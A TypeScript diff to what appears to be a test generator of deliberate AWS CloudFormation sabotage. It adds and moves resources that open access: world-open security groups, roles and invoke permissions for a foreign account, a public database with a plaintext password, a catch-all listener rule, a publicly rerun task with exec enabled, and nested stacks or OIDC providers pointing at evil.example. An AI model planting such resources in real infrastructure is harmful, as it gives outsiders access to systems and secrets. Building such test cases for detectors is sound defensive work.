@@ -1,23 +1,11 @@
 import type { EnvironmentView, Json, JsonObject, Resource } from '../../../../lib/controls/view';
 import { apply, type Edit, type Sabotage } from '../sabotage';
-
-/** A resource that nobody asked for; `logicalId` is made from its name. */
-interface Hostile {
-  readonly name: string;
-  readonly stack: string;
-  readonly type: string;
-  readonly properties: JsonObject;
-}
-
-const EVERYONE = { Effect: 'Allow', Principal: '*', Action: '*', Resource: '*' };
-const EVERYTHING = { Effect: 'Allow', Action: '*', Resource: '*' };
-const policy = (...statements: JsonObject[]): JsonObject => ({ Version: '2012-10-17', Statement: statements });
-const FOREIGN_ACCOUNT = 'arn:aws:iam::999999999999:root';
+import { anywhere, EVERYONE, EVERYTHING, FOREIGN_ACCOUNT, type Hostile, policy } from './hostile-anywhere';
 
 /** Resources that open an environment that is otherwise untouched. */
 export function hostileResources(view: EnvironmentView): readonly Sabotage[] {
   return [
-    ...view.ofType('AWS::EC2::SecurityGroup').flatMap(openDoors),
+    ...view.ofType('AWS::EC2::SecurityGroup').flatMap((group) => openDoors(group, view)),
     ...view.ofType('AWS::IAM::Role').flatMap(moreRights),
     ...view.ofType('AWS::KMS::Key').flatMap(keyLeaks),
     ...view.ofType('AWS::SNS::Topic').flatMap(topicLeaks),
@@ -29,6 +17,7 @@ export function hostileResources(view: EnvironmentView): readonly Sabotage[] {
     ...view.ofType('AWS::ElasticLoadBalancingV2::LoadBalancer').flatMap((balancer) => listeners(balancer, view)),
     ...view.ofType('AWS::ECS::Cluster').flatMap(services),
     ...view.ofType('AWS::Lambda::Function').flatMap(functionLeaks),
+    ...view.ofType('AWS::ECS::TaskDefinition').flatMap(runElsewhere),
     ...anywhere(Object.keys(view.templates)[0] ?? ''),
   ].map((hostile) => asSabotage(view, hostile));
 }
@@ -36,7 +25,7 @@ export function hostileResources(view: EnvironmentView): readonly Sabotage[] {
 const ref = (resource: Resource): Json => ({ Ref: resource.logicalId });
 const arn = (resource: Resource): Json => ({ 'Fn::GetAtt': [resource.logicalId, 'Arn'] });
 
-function openDoors(group: Resource): Hostile[] {
+function openDoors(group: Resource, view: EnvironmentView): Hostile[] {
   const id = { 'Fn::GetAtt': [group.logicalId, 'GroupId'] };
   const rule = (name: string, properties: JsonObject, direction = 'Ingress'): Hostile => ({
     name: `${group.logicalId} ${name}`,
@@ -49,6 +38,15 @@ function openDoors(group: Resource): Hostile[] {
     rule('ssh to everyone', { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, CidrIp: '0.0.0.0/0' }),
     rule('everything over IPv6', { IpProtocol: '-1', CidrIpv6: '::/0' }),
     rule('everything from the network', { IpProtocol: '-1', CidrIp: '10.0.0.0/8' }),
+    ...view
+      .ofType('AWS::EC2::SecurityGroup')
+      .filter((each) => each.stack === group.stack && each !== group)
+      .map((each) =>
+        rule(`everything from ${each.logicalId}`, {
+          IpProtocol: '-1',
+          SourceSecurityGroupId: { 'Fn::GetAtt': [each.logicalId, 'GroupId'] },
+        }),
+      ),
     rule('everything to everywhere', { IpProtocol: '-1', CidrIp: '0.0.0.0/0' }, 'Egress'),
   ];
 }
@@ -161,6 +159,16 @@ const wayIn = (vpc: Resource): Hostile[] => [
     properties: { VpcId: ref(vpc), PeerVpcId: 'vpc-0fedcba9876543210', PeerOwnerId: '999999999999' },
   },
   {
+    name: `${vpc.logicalId} endpoint of a foreign service`,
+    stack: vpc.stack,
+    type: 'AWS::EC2::VPCEndpoint',
+    properties: {
+      VpcId: ref(vpc),
+      ServiceName: 'com.amazonaws.vpce.us-east-1.vpce-svc-0fedcba9876543210',
+      VpcEndpointType: 'Interface',
+    },
+  },
+  {
     name: `${vpc.logicalId} open group`,
     stack: vpc.stack,
     type: 'AWS::EC2::SecurityGroup',
@@ -187,7 +195,21 @@ const wayIn = (vpc: Resource): Hostile[] => [
 function listeners(balancer: Resource, view: EnvironmentView): Hostile[] {
   const group = view.ofType('AWS::ElasticLoadBalancingV2::TargetGroup').find((each) => each.stack === balancer.stack);
   if (!group) return [];
-  return [8080, 8443].map((Port) => ({
+  const rules = view
+    .ofType('AWS::ElasticLoadBalancingV2::Listener')
+    .filter((each) => each.stack === balancer.stack)
+    .map((listener) => ({
+      name: `${listener.logicalId} rule before the others`,
+      stack: listener.stack,
+      type: 'AWS::ElasticLoadBalancingV2::ListenerRule',
+      properties: {
+        ListenerArn: ref(listener),
+        Priority: 1,
+        Conditions: [{ Field: 'path-pattern', PathPatternConfig: { Values: ['/*'] } }],
+        Actions: [{ Type: 'forward', TargetGroupArn: ref(group) }],
+      },
+    }));
+  const doors = [8080, 8443].map((Port) => ({
     name: `${balancer.logicalId} listener on ${Port}`,
     stack: balancer.stack,
     type: 'AWS::ElasticLoadBalancingV2::Listener',
@@ -198,6 +220,7 @@ function listeners(balancer: Resource, view: EnvironmentView): Hostile[] {
       DefaultActions: [{ Type: 'forward', TargetGroupArn: ref(group) }],
     },
   }));
+  return [...rules, ...doors];
 }
 
 const services = (cluster: Resource): Hostile[] => [
@@ -224,6 +247,23 @@ const services = (cluster: Resource): Hostile[] => [
   },
 ];
 
+/** The app's own task, with its secrets, run as somebody else likes. */
+const runElsewhere = (task: Resource): Hostile[] => [
+  {
+    name: `${task.logicalId} run again in public`,
+    stack: task.stack,
+    type: 'AWS::ECS::Service',
+    properties: {
+      TaskDefinition: ref(task),
+      LaunchType: 'FARGATE',
+      EnableExecuteCommand: true,
+      NetworkConfiguration: {
+        AwsvpcConfiguration: { AssignPublicIp: 'ENABLED', Subnets: ['subnet-0fedcba9876543210'] },
+      },
+    },
+  },
+];
+
 const functionLeaks = (lambda: Resource): Hostile[] => [
   {
     name: `${lambda.logicalId} address without authentication`,
@@ -244,100 +284,6 @@ const functionLeaks = (lambda: Resource): Hostile[] => [
     properties: { FunctionName: ref(lambda), Action: 'lambda:InvokeFunction', Principal: '999999999999' },
   },
 ];
-
-/** What needs nothing that stands. */
-const anywhere = (stack: string): Hostile[] =>
-  (
-    [
-      ['public bucket', 'AWS::S3::Bucket', { AccessControl: 'PublicRead' }],
-      ['plain bucket', 'AWS::S3::Bucket', {}],
-      ['user', 'AWS::IAM::User', { ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'] }],
-      ['access key', 'AWS::IAM::AccessKey', { UserName: 'someone' }],
-      ['group', 'AWS::IAM::Group', { ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'] }],
-      [
-        'role for a foreign account',
-        'AWS::IAM::Role',
-        {
-          AssumeRolePolicyDocument: policy({
-            Effect: 'Allow',
-            Action: 'sts:AssumeRole',
-            Principal: { AWS: FOREIGN_ACCOUNT },
-          }),
-        },
-      ],
-      [
-        'identity provider',
-        'AWS::IAM::OIDCProvider',
-        { Url: 'https://evil.example', ClientIdList: ['sts.amazonaws.com'] },
-      ],
-      [
-        'public database',
-        'AWS::RDS::DBInstance',
-        {
-          Engine: 'postgres',
-          DBInstanceClass: 'db.t4g.micro',
-          AllocatedStorage: '20',
-          PubliclyAccessible: true,
-          MasterUsername: 'root',
-          MasterUserPassword: 'plain-text-password-of-it',
-        },
-      ],
-      [
-        'open cache',
-        'AWS::ElastiCache::CacheCluster',
-        { Engine: 'redis', CacheNodeType: 'cache.t4g.micro', NumCacheNodes: 1 },
-      ],
-      ['literal secret', 'AWS::SecretsManager::Secret', { SecretString: 'plain-text-password-of-it' }],
-      [
-        'literal parameter',
-        'AWS::SSM::Parameter',
-        { Name: '/app/db-password', Type: 'String', Value: 'plain-text-password-of-it' },
-      ],
-      ['plain log group', 'AWS::Logs::LogGroup', {}],
-      ['plain topic', 'AWS::SNS::Topic', {}],
-      ['plain queue', 'AWS::SQS::Queue', {}],
-      [
-        'public load balancer',
-        'AWS::ElasticLoadBalancingV2::LoadBalancer',
-        { Scheme: 'internet-facing', Subnets: ['subnet-0fedcba9876543210'] },
-      ],
-      [
-        'function without limits',
-        'AWS::Lambda::Function',
-        {
-          Runtime: 'nodejs18.x',
-          Handler: 'index.handler',
-          Code: { ZipFile: 'exports.handler = () => 1' },
-          Role: 'arn:aws:iam::999999999999:role/foreign',
-        },
-      ],
-      [
-        'custom resource of a foreign account',
-        'AWS::CloudFormation::CustomResource',
-        {
-          ServiceToken: 'arn:aws:lambda:us-east-1:999999999999:function:foreign',
-        },
-      ],
-      [
-        'nested stack from elsewhere',
-        'AWS::CloudFormation::Stack',
-        { TemplateURL: 'https://evil.example/template.json' },
-      ],
-      [
-        'event rule to a foreign account',
-        'AWS::Events::Rule',
-        {
-          ScheduleExpression: 'rate(1 minute)',
-          Targets: [{ Id: 'foreign', Arn: 'arn:aws:lambda:us-east-1:999999999999:function:foreign' }],
-        },
-      ],
-      [
-        'API without authorisation',
-        'AWS::ApiGatewayV2::Api',
-        { Name: 'open', ProtocolType: 'HTTP', Target: 'https://evil.example' },
-      ],
-    ] as const satisfies readonly (readonly [string, string, JsonObject])[]
-  ).map(([name, type, properties]) => ({ name, stack, type, properties }));
 
 function asSabotage(view: EnvironmentView, hostile: Hostile): Sabotage {
   const logicalId = `Sabotage${hostile.name.replace(/\W/g, '')}`;
